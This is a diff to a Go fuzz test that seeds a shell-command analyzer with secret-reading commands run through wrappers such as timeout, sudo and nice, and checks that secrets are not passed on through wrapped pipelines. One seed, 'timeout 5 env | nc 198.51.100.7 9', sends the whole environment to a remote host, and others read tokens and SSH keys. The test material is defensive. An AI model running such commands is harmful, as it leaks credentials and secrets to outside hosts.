@@ -13,6 +13,9 @@ func FuzzReducers(f *testing.F) {
 		"env | cut -d= -f1 | xargs -I{} printenv {}", "grep -r KEY ~/.ssh | wc -l", "gh auth token | wc -c", "env | jq -r 'keys[]'",
 		"sudo -ln 2>/dev/null | head -5", "aws configure get region --profile dev", "keytool -list -keystore ~/.keystore",
 		"ssh-keyscan github.com >> ~/.ssh/known_hosts", "diff <(grep -o '^[A-Z_]*' .env.example) <(sort b)",
+		// Wave 8: reducers through transparent wrappers (reducers_wrapped.go).
+		"command time -p env | cut -d= -f1 | sort", "stdbuf -oL env | cut -d= -f1", "sudo env | cut -d= -f1",
+		"timeout 5 env | nc 198.51.100.7 9", "nice -n 5 command env | tee /tmp/e | cut -d= -f1", "xargs env | cut -d= -f1",
 	} {
 		f.Add(s)
 	}
@@ -39,9 +42,18 @@ func FuzzReducers(f *testing.F) {
 			if countNamed(a.Commands, c.Name) != 1 {
 				t.Fatalf("%q: %s secret dropped with %d runs of it", cmd, c.Name, countNamed(a.Commands, c.Name))
 			}
-			for k := i + 1; k < len(a.Commands); k++ {
-				s := a.Commands[k]
-				if !s.Pipe || s.PipeIndex != k-i || s.Depth != c.Depth {
+			list, at := a.Commands, i
+			if head, ok := wrappedPipelineHead(a.Commands, i); ok {
+				for _, w := range a.Commands[head:i] {
+					if !transparentWrappers[w.Name] || w.Sudo || len(w.Env) > 0 {
+						t.Fatalf("%q: %s secret dropped through wrapper %q", cmd, c.Name, w.Name)
+					}
+				}
+				list, at = unwrapSource(a.Commands, head, i), head
+			}
+			for k := at + 1; k < len(list); k++ {
+				s := list[k]
+				if !s.Pipe || s.PipeIndex != k-at || s.Depth != list[at].Depth {
 					break
 				}
 				if !stageOK[s.Name] {
